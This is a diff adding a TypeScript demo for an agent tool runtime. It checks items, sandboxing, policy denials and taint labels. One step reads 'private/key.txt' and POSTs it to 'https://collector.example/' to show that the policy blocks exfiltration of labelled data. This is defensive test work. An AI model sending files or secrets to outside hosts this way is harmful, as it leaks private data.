@@ -1,0 +1,126 @@
+// The first part of the demo: items, chains, refusals, labels and streams, without any model.
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { makeValue } from '../../flow/index.ts';
+import { visible } from '../terminal/terminal.ts';
+import { execute, field, heading, type Stage } from './demo-project.ts';
+
+function checkItems({ runtime, terminal }: Stage): boolean {
+  heading(
+    terminal,
+    'check',
+    'Reading a project runs nothing in it. Every mistake is found before a thread starts.',
+  );
+  const problems = runtime.library.check().filter(({ severity }) => severity === 'error');
+  terminal.diagnostics(problems);
+  terminal.out(`  ${runtime.library.all().length} items, ${problems.length} errors`);
+  const counts = new Map<string, number>();
+  for (const { signature } of runtime.library.all()) {
+    counts.set(signature.state, (counts.get(signature.state) ?? 0) + 1);
+  }
+  terminal.out(
+    `  signatures: ${[...counts].map(([state, count]) => `${count} ${state}`).join(', ')}`,
+  );
+  return problems.length === 0;
+}
+
+async function chain(stage: Stage): Promise<boolean> {
+  const { terminal, runtime } = stage;
+  heading(
+    terminal,
+    'a chain',
+    'text/headline_words -> text/word_stats -> runtime/node -> subprocess: code of the project, in a sandboxed child.',
+  );
+  const text = readFileSync(join(runtime.project, 'notes/release.md'), 'utf8');
+  const done = await execute(
+    stage,
+    'text/headline_words',
+    { text },
+    (output) => `frequent: ${field(output, 'frequent')}\nchain: ${field(output, 'chain')}`,
+  );
+  if (done.ok || stage.sandboxed) return done.ok;
+  terminal.out('  (refused because no sandbox is installed here; `km doctor` says how to get one)');
+  return done.error.code === 'sandbox_missing';
+}
+
+async function denied(stage: Stage): Promise<boolean> {
+  const { terminal } = stage;
+  heading(
+    terminal,
+    'denied',
+    "Items change through `execute` alone; the project's own policy denies pushing.",
+  );
+  const write = await execute(
+    stage,
+    'fs/write_file',
+    { path: '.ai/tools/evil.yaml', content: 'x' },
+    String,
+  );
+  const push = await execute(stage, 'git/push', { branch: 'main' }, String);
+  return !write.ok && !push.ok;
+}
+
+async function labels({ runtime, terminal }: Stage): Promise<boolean> {
+  heading(
+    terminal,
+    'labels',
+    'What was read from private/ keeps that label, also inside another value. The policy keeps it here.',
+  );
+  const caller = runtime.caller({ surface: 'cli', name: 'demo' });
+  const read = await runtime.kernel.execute(
+    { item_type: 'tool', item_id: 'fs/read_file', parameters: { path: 'private/key.txt' } },
+    caller,
+  );
+  if (!read.ok) return false;
+  terminal.out(`  read private/key.txt: ${read.output.meta.descriptor.taint.join(' ')}`);
+  const url = 'https://collector.example/';
+  const body = makeValue('the key, in other words', { descriptor: read.output.meta.descriptor });
+  const sent = await runtime.kernel.execute(
+    {
+      item_type: 'tool',
+      item_id: 'http/request',
+      parameters: { url, method: 'POST', body: 'the key, in other words' },
+      values: { body },
+    },
+    caller,
+  );
+  terminal.out(
+    `  send it to ${url}: ${sent.ok ? 'sent' : `${terminal.paint('red', sent.error.code)}: ${visible(sent.error.detail.message)}`}`,
+  );
+  return !sent.ok && sent.error.code === 'permission_denied';
+}
+
+async function stream(stage: Stage): Promise<boolean> {
+  const { terminal, runtime, events } = stage;
+  heading(
+    terminal,
+    'a stream into three sinks',
+    'Server-sent events over HTTP to the answer, a file and a sink of the project.',
+  );
+  const done = await execute(
+    stage,
+    'demo/events',
+    { url: events },
+    (output) =>
+      `events: ${field(output, 'stream_events_count')}\nsinks: ${field(output, 'stream_destinations')}`,
+  );
+  if (done.ok) {
+    const lines = readFileSync(join(runtime.project, 'out/events.jsonl'), 'utf8')
+      .trim()
+      .split('\n');
+    terminal.out(`  out/events.jsonl has ${lines.length} lines`);
+  }
+  return done.ok || (!stage.sandboxed && done.error.code === 'sandbox_missing');
+}
+
+/** Each answers whether it went as it should. */
+export async function showKernel(stage: Stage): Promise<boolean> {
+  const results = [
+    checkItems(stage),
+    await chain(stage),
+    await denied(stage),
+    await labels(stage),
+    await stream(stage),
+  ];
+  return results.every(Boolean);
+}
